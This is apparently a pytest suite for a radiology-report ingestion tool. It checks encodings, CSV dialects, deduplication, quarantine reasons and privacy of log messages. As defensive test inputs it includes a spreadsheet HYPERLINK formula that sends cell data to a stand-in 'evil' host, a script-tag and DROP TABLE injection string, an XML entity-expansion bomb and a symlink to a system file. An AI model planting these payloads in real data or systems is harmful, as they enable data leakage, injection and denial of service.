"""Reports as they come: broken, odd or hostile. Nothing is lost, nothing crashes, all is counted with a reason."""

from __future__ import annotations

import csv
import io
import json
import os
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import func, select

from radseek.archive.folder import ArchiveFolder
from radseek.archive.linking import link_reports
from radseek.archive.report_rows import ReportOptions
from radseek.archive.reports import ingest_reports
from radseek.archive.schema import jobs, outcomes, reports, sentences
from radseek.errors import ConfigError, InputError, RadseekError, StorageError
from radseek.records.outcomes import Tally
from radseek.records.progress import Progress

HEADER = ["report_id", "accession", "text"]
TEXTS = ["Kein Erguss über dem linken Zwerchfell.", "Clear lungs. No effusion.", "Größenprogrediente Raumforderung."]


@pytest.fixture
def archive(tmp_path: Path) -> Iterator[ArchiveFolder]:
    with ArchiveFolder.create(tmp_path / "archive") as opened:
        yield opened


def write_csv(path: Path, rows: Sequence[Sequence[str]], encoding: str = "utf-8", **dialect: Any) -> Path:
    out = io.StringIO()
    csv.writer(out, **dialect).writerows([HEADER, *rows])
    path.write_bytes(out.getvalue().encode(encoding))
    return path


def texts(archive: ArchiveFolder) -> list[str]:
    with archive.catalogue.reading() as connection:
        return list(connection.execute(select(reports.c.text).order_by(reports.c.id)).scalars())


def reasons(archive: ArchiveFolder) -> dict[str, int]:
    statement = select(outcomes.c.reason, func.count()).group_by(outcomes.c.reason)
    with archive.catalogue.reading() as connection:
        return {reason: count for reason, count in connection.execute(statement) if reason}


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "cp1252"])
@pytest.mark.parametrize("dialect", [{}, {"delimiter": ";", "lineterminator": "\n"}, {"delimiter": "\t"}])
def test_every_dialect_says_the_same(
    archive: ArchiveFolder, tmp_path: Path, encoding: str, dialect: dict[str, str]
) -> None:
    rows = [[str(n), f"A{n}", text] for n, text in enumerate(TEXTS)]
    file = write_csv(tmp_path / "r.csv", rows, encoding, **dialect)
    assert ingest_reports(archive, file) == Tally(ingested=3)
    assert texts(archive) == TEXTS
    assert ingest_reports(archive, file) == Tally(duplicate=3)
    assert texts(archive) == TEXTS


def test_one_bin_for_each_row(archive: ArchiveFolder, tmp_path: Path) -> None:
    rows = [
        ["1", "A1", 'First line.\n\nSecond, "quoted" line.'],
        ["2", "A2", '=HYPERLINK("http://evil/"&A1,"click")'],
        ["3", "A3", "   "],
        ["1", "A1", 'First line.\n\nSecond, "quoted" line.'],
        ["1", "A1", "Something else."],
        ["4", "A4"],
        ["5", "A5", "x" * 5_000_000],
        ["6", "A6", "<script>alert(1)</script> 'DROP TABLE reports; --"],
    ]
    file = write_csv(tmp_path / "r.csv", rows)
    expected = Tally(4, 1, {"empty_report": 1}, {"bad_row": 1, "conflicting_report": 1})
    assert ingest_reports(archive, file) == expected
    assert texts(archive) == [rows[0][2], rows[1][2], rows[6][2], rows[7][2]]
    again = ingest_reports(archive, file)
    assert again == Tally(0, 5, {"empty_report": 1}, {"bad_row": 1, "conflicting_report": 1})
    assert reasons(archive) == {"bad_row": 1, "conflicting_report": 1, "empty_report": 1}


def test_identical_reports_without_id_are_two_when_they_mean_two_studies(
    archive: ArchiveFolder, tmp_path: Path
) -> None:
    rows = [["", "A1", "Clear."], ["", "A2", "Clear."], ["", "A1", "Clear."], ["", "A1", "Addendum."]]
    assert ingest_reports(archive, write_csv(tmp_path / "r.csv", rows)) == Tally(ingested=3, duplicate=1)


def test_a_broken_line_in_the_middle(archive: ArchiveFolder, tmp_path: Path) -> None:
    lines = [json.dumps({"report_id": str(n), "text": f"Report {n}."}) for n in range(5)]
    lines[2] = lines[2][:-7]
    file = tmp_path / "r.jsonl"
    file.write_text("\n".join(lines), encoding="utf-8")
    assert ingest_reports(archive, file) == Tally(ingested=4, quarantined={"bad_row": 1})
    assert texts(archive) == [f"Report {n}." for n in (0, 1, 3, 4)]


def test_characters_that_no_database_stores(archive: ArchiveFolder, tmp_path: Path) -> None:
    file = tmp_path / "r.jsonl"
    file.write_text('{"report_id": "a\\u0000\\udfff", "text": "Clear\\u0000 lungs\\ud800."}\n', encoding="utf-8")
    assert ingest_reports(archive, file) == Tally(ingested=1)
    assert texts(archive) == ["Clear  lungs\ufffd."]
    assert ingest_reports(archive, file) == Tally(duplicate=1)


def test_sentences_lie_where_they_say(archive: ArchiveFolder, tmp_path: Path) -> None:
    rows = [["1", "A1", "FINDINGS:\r\nGroße Masse.\r\nNo effusion.\r\n\r\nIMPRESSION: 1. Mass."]]
    ingest_reports(archive, write_csv(tmp_path / "r.csv", rows, "utf-16"))
    with archive.catalogue.reading() as connection:
        found = connection.execute(select(sentences, reports.c.text.label("whole")).join(reports)).all()
    assert [row.text for row in found] == ["Große Masse.", "No effusion.", "Mass."]
    assert all(row.whole[row.start_char : row.end_char] == row.text for row in found)


def test_a_folder_with_everything_wrong(archive: ArchiveFolder, tmp_path: Path) -> None:
    folder = tmp_path / "reports"
    folder.mkdir()
    (folder / "A1.txt").write_bytes("Kein Erguss über rechts.\r\n".encode("utf-16-be"))
    (folder / "A2.txt").write_bytes(os.urandom(5000) + bytes(500))
    (folder / "A3.txt").touch()
    (folder / "bomb.xml").write_text(
        '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><eCitation><uId id="1"/>'
        "<AbstractText>&b;</AbstractText></eCitation>"
    )
    (folder / "scan.dcm").write_bytes(bytes(128) + b"DICM")
    os.symlink("/etc/hostname", folder / "A4.txt")
    tally = ingest_reports(archive, folder)
    assert tally == Tally(
        ingested=1,
        skipped={"empty_report": 1, "not_a_report": 1, "special_file": 1},
        quarantined={"bad_encoding": 1, "bad_xml": 1},
    )
    assert texts(archive) == ["Kein Erguss über rechts.\n"]
    assert ingest_reports(archive, folder).seen == tally.seen


def test_an_edited_text_file_is_a_conflict(archive: ArchiveFolder, tmp_path: Path) -> None:
    file = tmp_path / "A1.txt"
    file.write_text("Clear.")
    assert ingest_reports(archive, file) == Tally(ingested=1)
    file.write_text("Mass.")
    assert ingest_reports(archive, file) == Tally(quarantined={"conflicting_report": 1})
    assert texts(archive) == ["Clear."]


@pytest.mark.parametrize(
    ("name", "content", "kind", "message"),
    [
        ("r.csv", "", InputError, "the table is empty"),
        ("r.csv", "a,b\n1,2\n", ConfigError, "no column with report text; its columns are: a, b"),
        ("r.csv", "text,text\n1,2\n", InputError, "more than once: text"),
        ("r.jsonl", "\n\n", InputError, "the table is empty"),
        ("r.parquet", "PAR1", InputError, "Parquet file cannot be read"),
        ("r.csv.gz", "text\n", InputError, "gzip file is damaged"),
        ("r.docx", "PK", InputError, "reports are read from"),
    ],
)
def test_a_file_that_is_none_ingests_nothing(
    archive: ArchiveFolder, tmp_path: Path, name: str, content: str, kind: type[RadseekError], message: str
) -> None:
    (tmp_path / name).write_text(content)
    with pytest.raises(kind, match=message):
        ingest_reports(archive, tmp_path / name)
    with archive.catalogue.reading() as connection:
        assert connection.execute(select(func.count()).select_from(jobs)).scalar_one() == 0


def test_header_only_and_an_empty_folder_are_nothing_to_do(archive: ArchiveFolder, tmp_path: Path) -> None:
    assert ingest_reports(archive, write_csv(tmp_path / "r.csv", [])).seen == 0
    (tmp_path / "none").mkdir()
    assert ingest_reports(archive, tmp_path / "none").seen == 0


@pytest.mark.skipif(os.geteuid() == 0, reason="root may read everything")
def test_a_file_without_rights(archive: ArchiveFolder, tmp_path: Path) -> None:
    file = write_csv(tmp_path / "r.csv", [["1", "A1", "Clear."]])
    file.chmod(0)
    with pytest.raises(StorageError, match="Permission denied"):
        ingest_reports(archive, file)


def test_no_identifier_and_no_text_in_messages_and_details(archive: ArchiveFolder, tmp_path: Path) -> None:
    secret = "Zebedee"
    heard: list[Progress] = []
    rows = [[secret, secret, secret], [secret, secret, f"{secret} again"], [secret, secret], ["2", secret, ""]]
    file = write_csv(tmp_path / f"{secret}.csv", rows)
    ingest_reports(archive, file, ReportOptions(), heard.append)
    link_reports(archive, heard.append)
    with archive.catalogue.reading() as connection:
        details = list(connection.execute(select(outcomes.c.detail)).scalars())
        summaries = list(connection.execute(select(jobs.c.summary)).scalars())
    assert len(details) == 4
    assert secret not in repr((details, summaries, heard))
